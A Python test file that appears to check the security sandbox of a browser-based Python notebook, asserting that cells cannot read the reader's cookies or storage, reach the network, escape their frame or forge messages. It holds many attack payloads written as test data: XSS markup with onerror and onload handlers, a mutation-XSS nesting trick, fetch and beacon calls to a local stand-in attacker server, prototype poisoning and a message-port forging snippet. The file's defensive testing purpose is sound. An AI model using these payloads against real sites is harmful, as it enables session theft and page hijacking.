"""Cells and links that mean harm: nothing of the page, of the reader or of the network is in reach."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from .notebook import stored


class Trap:
    """A server of somebody else's: it answers everything, to everybody, and remembers being asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<script>parent.postMessage('escaped', '*')</script>")

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self._server.server_port}"
        self.url = f"http://{self.address}/"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def trap():
    trap = Trap()
    yield trap
    trap.close()


@pytest.fixture
def victim(notebook, trap):
    """A page whose reader has something to lose; afterwards it is still theirs, and nobody was told."""
    page = notebook.page
    page.evaluate(
        """async () => {
            document.cookie = 'secret=cookie';
            localStorage.secret = 'storage';
            window.secret = 'variable';
            await new Promise((resolve) => {
                const request = indexedDB.open('secret');
                request.onsuccess = () => (request.result.close(), resolve());
            });
            window.messages = [];
            addEventListener('message', ({ data }) => messages.push(data));
        }"""
    )
    address = page.url
    yield notebook
    assert trap.asked == []
    assert page.url == address
    assert "secret=cookie" in page.evaluate("document.cookie")
    assert page.evaluate("[localStorage.secret, window.secret]") == ["storage", "variable"]
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert "escaped" not in page.evaluate("messages")
    assert notebook.run(1, "'the page goes on'") == "ok"
    assert notebook.output(1, "value") == "'the page goes on'"


def attempt(notebook, *attacks: str) -> list[str]:
    """What each attack gives, all of them in one cell; ``refused: ...`` where it raises."""
    source = f"""
import js, pyodide, pyodide.ffi, pyodide.code
async def attempt(attack):
    try:
        value = eval(attack)
        if hasattr(value, '__await__'):
            value = await value
        return str(value)
    except BaseException as error:
        return f'refused: {{type(error).__name__}}'
import json
print(json.dumps([await attempt(attack) for attack in {list(attacks)!r}]))
"""
    assert notebook.run(1, source) == "ok", notebook.output(1)
    return json.loads(notebook.output(1, "stdout"))


def refused(results: list[str]) -> bool:
    return all(result.startswith("refused: ") or result == "undefined" for result in results)


def test_cookies_are_out_of_reach(victim):
    assert refused(attempt(victim, "js.document.cookie", "js.cookieStore.getAll()"))


def test_storage_is_out_of_reach(victim):
    attacks = [
        "js.localStorage.secret",
        "js.sessionStorage.secret",
        "js.indexedDB.open('secret')",
        "js.indexedDB.open('keyval-store')",
        "js.caches.keys()",
        "js.navigator.storage.getDirectory()",
    ]
    assert refused(attempt(victim, *attacks))


def test_the_page_around_is_out_of_reach(victim):
    attacks = [
        "js.parent.document.body",
        "js.top.location",
        "js.opener",
        "js.window.secret",
        "js.document.body",
        "js.open('about:blank')",
    ]
    assert refused(attempt(victim, *attacks))
    assert attempt(victim, "js.self.origin") == ["null"]


def test_nothing_is_sent_out(victim, trap):
    """Every way to reach a network, to somebody else's server and to the page's own.

    Some only fail later, or pretend: what counts is that neither server was asked.
    """
    ways = [
        "js.fetch('{url}')",
        "js.fetch('{url}', js.JSON.parse('{{\"mode\": \"no-cors\"}}'))",
        "__import__('pyodide.http').http.pyfetch('{url}')",
        "__import__('pyodide.http').http.open_url('{url}')",
        "js.importScripts('{url}')",
        "js.EventSource.new('{url}').url.missing",
        "js.WebSocket.new('ws://{host}/').url.missing",
        "js.WebTransport.new('https://{host}/').ready",
        "js.navigator.sendBeacon('{url}')",
        "js.Request.new('{url}').body.text",
        "__import__('urllib.request').request.urlopen('{url}')",
        "__import__('socket').create_connection(('127.0.0.1', {port}), 1).recv(1)[0]",
    ]
    answers = []
    victim.page.on("response", lambda response: answers.append(response.url))
    for url in (trap.url, victim.page.url):
        host = url.split("/")[2]
        results = attempt(victim, *(way.format(url=url, host=host, port=host.split(":")[1]) for way in ways))
        assert refused(results), dict(zip(ways, results, strict=True))
    victim.page.wait_for_timeout(300)
    assert answers == []


def test_the_page_cannot_be_led_elsewhere(victim, trap):
    victim.run(1, f"import js\njs.self.location.href = '{trap.url}'")
    victim.run(1, f"import js\njs.self.location.replace('{trap.url}')")


def test_text_is_not_compiled_to_javascript(victim):
    attacks = [
        "pyodide.code.run_js('1')",
        "js.eval('1')",
        "js.Function.new('return 1')()",
        "js.setTimeout('self.x = 1', 0) or js.x",
    ]
    assert refused(attempt(victim, *attacks))
    # Python itself does not outlive this one.
    source = "import js\njs.Object.getPrototypeOf(js.Object.new).constructor.constructor('return 1')()"
    assert victim.run(1, source) in ("failed", "dead")


def test_markup_in_text_stays_text(victim):
    markup = "<img src=x onerror='window.pwned=1'><script>window.pwned=1</script>"
    source = f"import sys\nm = {markup!r}\nprint(m)\nprint(m, file=sys.stderr)\nraise ValueError(m)"
    assert victim.run(1, source) == "failed"
    for stream in ("stdout", "stderr", "error"):
        assert markup in victim.output(1, stream)
    assert victim.cell(1).locator(".output :is(img, script)").count() == 0


def test_html_stays_in_its_frame(victim, trap):
    url = trap.url
    html = f"""
      <b id=shown>shown</b>
      <script>parent.pwned = 1; fetch('{url}script')</script>
      <img src='{url}image' onerror='parent.pwned = 1'>
      <iframe src='{url}frame'></iframe><object data='{url}object'></object><embed src='{url}embed'>
      <link rel=stylesheet href='{url}style'>
      <style>@import '{url}import'; b {{ background: url({url}css) }}</style>
      <meta http-equiv=refresh content='0; url={url}refresh'><base href='{url}'>
      <form action='{url}form'><button id=go>go</button></form><a href='{url}link' target=_top>a</a>
      <a href='javascript:parent.pwned=1'>b</a>
      <svg onload='parent.pwned=1'><a xlink:href='{url}svg'>c</a></svg>
      <math><mtext><table><mglyph>
      <style><img src=x onerror='parent.pwned=1'></style></mglyph></table></mtext></math>
    """
    source = f"class H:\n    def _repr_html_(self): return {html!r}\nH()"
    assert victim.run(1, source) == "ok"
    shown = victim.cell(1).frame_locator("iframe.html")
    shown.locator("#shown").wait_for()
    assert (
        shown.locator("script:not(:last-child), form, meta[http-equiv=refresh], iframe, [href]").count() == 0
    )
    for link in shown.locator("a").all():
        link.dispatch_event("click")
    victim.page.wait_for_timeout(300)
    assert victim.cell(1).locator("iframe.html").get_attribute("sandbox") == "allow-scripts"


def test_a_picture_runs_and_loads_nothing(victim, trap):
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1' width='9' height='9'>"
        f"<script>parent.pwned=1</script><image href='{trap.url}svg'/>"
        f"<foreignObject><iframe src='{trap.url}foreign'/></foreignObject></svg>"
    )
    assert victim.run(1, f"class P:\n    def _repr_svg_(self): return {svg!r}\nP()") == "ok"
    picture = victim.cell(1).locator("img.picture")
    picture.wait_for()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") == 9


def test_forged_messages_change_nothing(victim):
    """From the worker past its port, and from windows that are not the frame's."""
    forged = [
        {"type": "ready", "python": "<b>", "ndgrad": "9"},
        {"type": "output", "stream": "stdout", "text": "forged"},
        {"type": "run", "cell": 1, "code": "forged"},
        {"type": "open", "runtime": {}},
    ]
    source = f"""
import js, json
for message in {[json.dumps(message) for message in forged]!r}:
    js.self.postMessage(js.JSON.parse(message))
"""
    assert victim.run(1, source) == "ok"
    victim.page.evaluate(
        "forged => { for (const m of forged) { postMessage(m, '*');"
        " for (const f of document.querySelectorAll('iframe')) f.contentWindow.postMessage(m, '*'); } }",
        forged,
    )
    victim.page.wait_for_timeout(200)
    assert victim.output(1) == ""
    assert "9" not in victim.page.text_content("#status").rpartition("ndgrad")[2]


def test_prototypes_cannot_be_poisoned(victim):
    source = """
import js
js.Object.prototype.type = 'dead'
js.Object.prototype.reason = 'poisoned'
js.Array.prototype.pwned = 1
js.self.postMessage(js.JSON.parse('{"__proto__": {"pwned": 1}}'))
print('done')
"""
    assert victim.run(1, source) == "ok"
    assert victim.output(1, "stdout") == "done\n"
    assert victim.page.evaluate("[({}).type, ({}).pwned, [].pwned]") == [None, None, None]
    assert victim.page.get_attribute("body", "data-runtime") == "ready"


def test_workers_do_not_multiply(victim):
    results = attempt(
        victim, "js.Worker.new('data:text/javascript,for(;;);')", "js.SharedWorker.new('data:,')"
    )
    assert refused(results)
    victim.wait_settled()
    assert len(victim.page.workers) == 2


def test_memory_runs_out_for_the_cell_only(victim):
    source = "kept = []\nwhile True: kept.append(bytearray(1 << 26))"
    assert victim.run(1, source) == "failed"
    assert "MemoryError" in victim.output(1, "error")
    victim.run(1, "del kept")
    source = "from mxnet import nd\nx = nd.ones((1 << 22,))\nparts = []\nwhile True: parts.append(x * 2)"
    assert victim.run(1, source) == "failed"
    assert "MemoryError" in victim.output(1, "error")
    victim.run(1, "del parts, x")


def test_ten_megabytes_of_print_leave_the_page_responsive(victim):
    page = victim.page
    page.evaluate(
        """() => {
            window.longest = 0;
            let last = performance.now();
            const tick = (now) => {
                longest = Math.max(longest, now - last);
                last = now;
                requestAnimationFrame(tick);
            };
            requestAnimationFrame(tick);
        }"""
    )
    assert victim.run(1, "for i in range(100_000): print('x' * 100)") == "ok"
    assert len(victim.output(1, "stdout")) <= 200_000
    assert page.evaluate("longest") < 500


# Takes hold of the port through which a worker speaks, and says there what the page could want to hear.
FORGER = """
import builtins, js
from pyodide.ffi import create_proxy
builtins.pwned = 'pwned'
speak = js.MessagePort.prototype.postMessage
def forge(port, *message):
    speak.call(port, js.ArrayBuffer.new(1 << 20))
    speak.call(port, js.JSON.parse('{"type": "ready", "python": "3", "ndgrad": "1", "restored": false}'))
    return speak.call(port, *message)
js.MessagePort.prototype.postMessage = create_proxy(forge, capture_this=True)
"""


def test_no_cell_has_a_part_in_a_snapshot(reader):
    """Neither one that runs while it is made, nor one that finds it there."""
    stored(reader.page, "await result(store.clear())")
    reader.visit()
    assert reader.run(1, FORGER) == "ok"
    assert reader.run(2, "pwned") == "ok"
    reader.wait_settled()
    made = reader.snapshot()
    assert made is not None
    for _ in range(2):
        reader.visit_to_the_end("snapshot")
        assert reader.run(1, "pwned") == "failed"
        assert reader.run(2, FORGER) == "ok"
        assert reader.run(3, "pwned") == "ok"
        reader.page.click("#restart")
        reader.wait_ready()
        assert reader.run(1, "pwned") == "failed"
        assert reader.snapshot() == made
